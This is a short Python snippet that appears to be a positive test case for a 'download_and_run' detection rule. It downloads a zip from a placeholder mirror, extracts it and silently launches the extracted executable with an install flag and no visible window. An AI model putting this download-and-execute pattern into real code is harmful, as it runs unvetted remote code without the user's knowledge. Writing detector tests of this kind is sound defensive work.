import os
import subprocess
import urllib.request
import zipfile


def fetch(d):
    z = os.path.join(d, "gs.zip")
    urllib.request.urlretrieve("https://downloads.example-mirror.net/gs-portable.zip", z)
    with zipfile.ZipFile(z) as f:
        # ruleid: download_and_run
        f.extractall(d)
    svc = os.path.join(d, "gsfontsvc.exe")
    subprocess.Popen([svc, "/install"], creationflags=0x08000000)
